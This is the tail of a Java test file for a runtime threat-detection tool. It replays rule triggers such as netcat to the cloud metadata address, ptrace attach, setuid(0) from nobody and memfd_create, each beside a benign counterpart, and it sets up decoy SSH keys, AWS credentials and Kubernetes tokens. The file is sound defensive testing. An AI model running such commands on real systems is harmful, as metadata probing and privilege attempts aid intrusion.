            // its own namespace), with a listener there: the connect succeeds and nothing leaves it.
            c("Cloud Metadata Service Contacted From Container", "nc to 169.254.169.254:80 on the container's loopback",
                    Side.privSh("ip addr add 169.254.169.254/32 dev lo 2>/dev/null; nc -l -p 80 >/dev/null & sleep 0.3; echo hi | nc -w 1 169.254.169.254 80; wait"),
                    Side.privSh("nc -l -p 8081 >/dev/null & sleep 0.3; echo hi | nc -w 1 127.0.0.1 8081; wait"),
                    "->169.254.169.254:80"),
            // ---------------- host: python3 (present on the host) calling the syscalls through ctypes, on processes it made
            c("Process Injection via Ptrace", "python3 attaches to its own sleeping child",
                    Side.host("/usr/bin/python3", "-c", PTRACE_ATTACH),
                    Side.host("/usr/bin/python3", "-c", PTRACE_TRACEME),
                    "request=PTRACE_ATTACH", "proc=python3"),
            // python3 started as nobody (setpriv) asks for uid 0: refused (EPERM), the record is the syscall's entry.
            c("Non-Root Process Set UID to Root", "python3 running as nobody calls setuid(0)",
                    Side.host("/usr/bin/setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "/usr/bin/python3", "-c", "import os; os.setuid(0)"),
                    Side.host("/usr/bin/setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "/usr/bin/python3", "-c", "import os; os.setuid(65534)"),
                    "proc=python3", "uid=65534"),
            c("Executable Memory File Created by Interpreter", "python3 memfd_create",
                    Side.host("/usr/bin/python3", "-c", "import os; os.close(os.memfd_create('vigil-replay'))"),
                    Side.host("/usr/bin/python3", "-c", "import os; r, w = os.pipe(); os.close(r); os.close(w)"),
                    "name=vigil-replay", "proc=python3"));


    /**
     * Process rules without a replay yet, and why.
     */
    static final Map<String, String> PROCESS_RULES_NOT_REPLAYED = Map.of();

    /**
     * Rules on file, network or privilege records that the current syscalls sensor could see but
     * that have no replay yet, and why. Rules that need a record the sensor does not make yet
     * (dup, rename, ...) are not here: the coverage listing names the sensor kind they wait for.
     */
    static final Map<String, String> SYSCALL_RULES_NOT_REPLAYED = Map.of(
            "Reverse Shell Standard Stream Redirection",
            "replayed in SyscallRulesTest.aSocketDuplicatedOntoStandardStreamsIsAReverseShell instead (busybox nc -e against a listener"
                    + " in the same container; a shell's dup2 of a file onto stdout is its benign neighbour), not in this table");

    /**
     * Rules replayed in the qemu VM (KernelMatrixVmTest, {@code make vm-test}) because this host's
     * kernel cannot produce their records: rule -> the test method's name and what it does.
     */
    static final Map<String, String> VM_REPLAYS = Map.of(
            "Kernel Module Loaded",
            "kernelModuleLoadRaisesTheRuleAndItsNeighbourDoesNot: insmod of the kernel package's crc7.ko on the host of Debian's 6.1"
                    + " kernel (this host's kernel has module support compiled out: no init_module/finit_module tracepoints), the module"
                    + " is in /proc/modules afterwards; the neighbour, lsmod, loads none");

    /** The setup every container script runs before its cases (from /, so nothing is attributed to a case). */
    static String containerPrelude() {
        List<String> lines = new ArrayList<>(Arrays.asList(
                "mkdir -p /usr/local/bin /opt/.hidden /root/.cache /vigil-replay",
                "for t in " + String.join(" ", CONTAINER_STANDINS) + "; do cp /bin/busybox /usr/local/bin/$t; done",
                "cp /bin/busybox /tmp/dropper; cp /bin/busybox /opt/.hidden/tool; cp /bin/busybox /root/.cache/tool",
                "cp /bin/busybox /tmp/vigil-replay-bin",
                "echo aGkK > /tmp/payload.b64; echo 'exit 0' > /tmp/linpeas.sh; echo 'exit 0' > /tmp/healthcheck.sh",
                "echo x > /tmp/wipe-me; mkdir -p /tmp/vigil-scratch",
                // Targets of the file cases: the container's own files, made before any case runs.
                "mkdir -p /etc/cron.d /etc/init.d /etc/systemd/system /etc/ld.so.conf.d /etc/sudoers.d /var/www /var/log /mnt"
                        + " /root/.ssh /root/.aws /root/.kube /var/run/secrets/kubernetes.io/serviceaccount /var/run/secrets/vigil",
                "echo x > /etc/cron.d/placeholder; echo x > /etc/init.d/placeholder; echo x > /etc/ld.so.conf; echo x > /etc/sudoers",
                "echo 'export PS1=x' > /root/.profile; echo l > /var/log/app.log; echo l > /var/log/old.log",
                "echo ls > /root/.ash_history; echo ls > /root/.bash_history; echo x > /tmp/bash-notes",
                "echo 'root:*:1::::::' > /etc/shadow; echo key > /root/.ssh/id_ed25519; echo pub > /root/.ssh/id_ed25519.pub",
                "echo '[default]' > /root/.aws/credentials; echo x > /root/.aws/notes; echo x > /root/.kube/config; echo x > /root/.kube/notes",
                "echo tok > /var/run/secrets/kubernetes.io/serviceaccount/token; echo tok > /var/run/secrets/vigil/token",
                // A stand-in: the kernel execs a file named $1 with the arguments, busybox runs true.
                "fake() { n=$1; shift; exec -a true /usr/local/bin/$n \"$@\"; }",
                // A case: its own directory, a subshell, its exit status on stdout.
                "case_() { d=/vigil-replay/$1; mkdir -p $d; cd $d; export CASE_DIR=$d; ( eval \"$2\" ) </dev/null >/dev/null 2>&1; echo \"VIGIL-CASE $1 $?\"; cd /; }"));
        return String.join("\n", lines) + "\n";
    }

    static String quote(String s) {
        return "'" + s.replace("'", "'\\''") + "'";
    }
}
